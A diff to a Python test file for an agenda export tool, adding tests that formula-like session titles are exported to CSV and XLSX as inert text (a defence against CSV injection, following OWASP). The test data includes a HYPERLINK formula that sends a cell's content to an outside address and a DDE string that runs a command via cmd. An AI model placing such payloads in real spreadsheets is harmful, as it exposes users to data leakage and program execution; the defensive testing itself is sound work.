@@ -8,6 +8,7 @@ from __future__ import annotations
 import csv
 import datetime as dt
 import io
+import json
 import shutil
 import zipfile
 from pathlib import Path
@@ -87,6 +88,22 @@ def pdfs(output: Path) -> dict[str, bytes]:
 # --- the round trip: YAML → sheet → build gives the same PDFs -------------------------------------
 
 
+# Texts a spreadsheet would take for formulas (issue 22: formula injection), as a session's titles.
+FORMULAS = {
+    "Accueil des participants et café": '=HYPERLINK("http://example.org/?"&A2,"Bienvenue")',
+    "Welcome and coffee": "+33 1 43 99 70 00",
+    "Empfang und Kaffee": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+def with_formulas(project: Path) -> None:
+    path = project / "sources/workshops/2016-09-dresden.yaml"
+    text = path.read_text(encoding="utf-8")
+    for old, new in FORMULAS.items():
+        text = text.replace(f": {old}\n", f": {json.dumps(new)}\n", 1)
+    path.write_text(text, encoding="utf-8")
+
+
 @pytest.mark.build
 @pytest.mark.parametrize(
     "example, workshop, fmt, selection",
@@ -94,15 +111,20 @@ def pdfs(output: Path) -> dict[str, bytes]:
         ("", "2017-05-thessaloniki", "xlsx", ("--lang", "el", "--variant", "screen")),
         ("forum", "2027-09-novi-sad-forum", "xlsx", ("--lang", "en", "--variant", "print")),
         ("conference", "2027-06-tampere-annual-conference", "csv", ("--lang", "fr", "--variant", "screen")),
+        ("", "2016-09-dresden", "csv", ("--lang", "fr", "--variant", "screen")),  # titles like formulas
+        ("", "2016-09-dresden", "xlsx", ("--lang", "en", "--variant", "screen")),
     ],
 )
 def test_an_exported_agenda_builds_the_same_pdfs(tmp_path, example, workshop, fmt, selection):
     """Shipped (three languages, free-text speakers), the forum (parallel slots, a hundred people) and
-    the conference as CSV (an evening item without a time, visits leaving from meeting points)."""
+    the conference as CSV (an evening item without a time, visits leaving from meeting points); Dresden
+    with titles a spreadsheet would take for formulas (`=HYPERLINK(…)`, a phone number `+33…`)."""
     sources = ROOT / "examples" / example / "sources" if example else ROOT / "sources"
     built = {}
     for name in ("yaml", "sheet"):
         project = copy_project(tmp_path / name, sources)
+        if workshop == "2016-09-dresden":
+            with_formulas(project)
         if name == "sheet":
             exported = run_cli("export-agenda", workshop, "--format", fmt, project=project)
             assert exported.exit_code == 0, exported.output
@@ -554,13 +576,13 @@ BAD_SHEETS = [
         "rows over the bound",
         "case.csv",
         huge_csv,
-        "sources/agenda/case.csv: has 5002 rows, more than the 5000 a sheet may have",
+        "sources/agenda/case.csv: has more than the 5000 rows a sheet may have (row 5,001 holds a value)",
     ),
     (
         "columns over the bound",
         "case.csv",
         wide_csv,
-        "sources/agenda/case.csv: has 101 columns, more than the 100 a sheet may have",
+        "sources/agenda/case.csv: has more than the 100 columns a sheet may have (column 101 holds a value)",
     ),
     (
         "file over the bound",
@@ -783,3 +805,26 @@ def test_problems_at_cells_and_at_no_place_sort_together():
         "sources/workshops/x.yaml:4: title d",
         "sources/workshops/x.yaml:31: agenda c",
     ]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
+def test_texts_like_formulas_are_exported_as_text_and_read_back(project_copy, fmt):
+    """OWASP's advice against CSV injection: a cell starting with =, +, -, @, tab or CR is written after
+    an apostrophe in CSV, as a text cell in XLSX (never a live formula); reading it back gives the text."""
+    with_formulas(project_copy)
+    exported = run_cli("export-agenda", "2016-09-dresden", "--format", fmt, project=project_copy)
+    assert exported.exit_code == 0, exported.output
+    path = project_copy / f"sources/agenda/2016-09-dresden.{fmt}"
+    if fmt == "csv":
+        written = path.read_text(encoding="utf-8-sig")
+        assert "'+33 1 43 99 70 00" in written and '"\'=HYPERLINK(""http://example.org/?""&A2' in written
+    else:
+        sheet = openpyxl.load_workbook(path)["Programme"]
+        cells = [cell for row in sheet.iter_rows() for cell in row if cell.value in FORMULAS.values()]
+        assert len(cells) == 3 and {cell.data_type for cell in cells} == {"s"}
+        with zipfile.ZipFile(path) as archive:
+            assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()
+    table = read_table(path, path.name)
+    doc, problems = agenda_from_table(table)
+    assert table.problems == [] and problems == []
+    assert doc.data[0]["sessions"][0]["title"] == dict(zip(["fr", "en", "de"], FORMULAS.values(), strict=True))
